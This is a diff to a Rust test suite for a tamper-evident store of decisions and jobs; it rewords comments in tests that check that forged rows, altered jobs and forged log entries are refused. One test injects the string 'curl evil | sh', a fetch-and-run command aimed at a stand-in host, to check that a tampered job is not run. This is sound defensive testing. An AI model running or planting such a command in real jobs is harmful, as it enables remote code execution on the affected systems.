@@ -44,7 +44,7 @@ async fn put_row(bench: &dyn Bench, decision: &Decision) {
     bench.tamper(Tampering::Row { doc, status: decision.status.name(), deadline }).await;
 }
 
-/// A row as if somebody had said yes.
+/// Returns the decision as if it had been answered with yes.
 fn patched(decision: &Decision, scene: &Scene) -> Decision {
     let mut patched = decision.clone();
     patched.status = Status::Answered;
@@ -67,7 +67,7 @@ pub async fn the_log_makes_what_stands_in_the_row(bench: &dyn Bench) {
     assert_eq!(row.answer.as_ref().unwrap().digest, Some(asked.digest.clone()));
     let recorded = folded(&scene, asked.id).await.unwrap();
     assert_eq!(recorded.as_ref(), Some(&row));
-    // What was read before somebody settled it is no reason to use it.
+    // A state that was read before the decision was settled cannot be relied on.
     let early = consume(&scene, asked.id, &subject, Basis::Log(None)).await;
     assert_eq!(refusal(early).code(), "unproven");
     consume(&scene, asked.id, &subject, Basis::Log(recorded.map(Arc::new))).await.unwrap();
@@ -124,7 +124,7 @@ pub async fn a_changed_job_is_not_run(bench: &dyn Bench) {
     let changed = doc.replace("\"true\"", "\"curl evil | sh\"");
     assert_ne!(changed, doc);
     bench.tamper(Tampering::JobRow { doc: changed }).await;
-    // One that has read it before, and one that has not.
+    // One process has read the job before, the other has not.
     let other = Scene::with(bench, options).await;
     for scene in [&scene, &other] {
         let found = crate::proven_job(scene.store.as_ref(), "job-1").await;
@@ -137,7 +137,7 @@ pub async fn a_changed_job_is_not_run(bench: &dyn Bench) {
     assert!(crate::proven_job(store, "job-1").await.unwrap().is_some());
 }
 
-/// Puts a log in the place of the store's, with its chain right again.
+/// Replaces the store's log by another, with a correct chain.
 async fn put_log(bench: &dyn Bench, mut links: Vec<Link>) {
     for (at, link) in links.iter_mut().enumerate() {
         let place = i64::try_from(at).unwrap() + 1;
@@ -215,7 +215,7 @@ pub async fn events_that_nobody_wrote_are_doubted(bench: &dyn Bench) {
         bench.tamper(Tampering::Append { link: forged.clone() }).await;
         let doubt = history::doubt(scene.store.as_ref(), key.as_ref(), &forged).await.unwrap();
         assert_eq!(doubt, Some(Wrong::Unproven { until: forged.seq }));
-        // Nor is it known by the next batch that is proven.
+        // The next proven batch does not vouch for it either.
         scene.ask(question()).await;
         let doubt = history::doubt(scene.store.as_ref(), key.as_ref(), &forged).await.unwrap();
         assert!(doubt.is_some(), "{policy:?}");
